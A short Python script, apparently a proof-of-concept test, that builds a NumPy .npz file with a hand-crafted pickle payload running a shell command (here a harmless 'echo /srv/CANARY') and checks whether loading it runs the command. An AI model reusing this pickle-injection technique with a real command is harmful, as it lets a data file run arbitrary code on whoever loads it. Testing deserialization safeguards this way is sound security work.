import numpy as np, zipfile, io
p = b"cposix\nsystem\n(S'echo /srv/CANARY'\ntR."
h = io.BytesIO()
np.save(h, np.array([None]), allow_pickle=True)
raw = h.getvalue()
raw = raw[:raw.index(b"\n") + 1]
with zipfile.ZipFile("x.npz", "w") as z:
    z.writestr("a.npy", raw + p)
n = np.load("x.npz")
setattr(n, "allow_pickle", True)
try:
    n["a"]
except Exception as e:
    print(e)
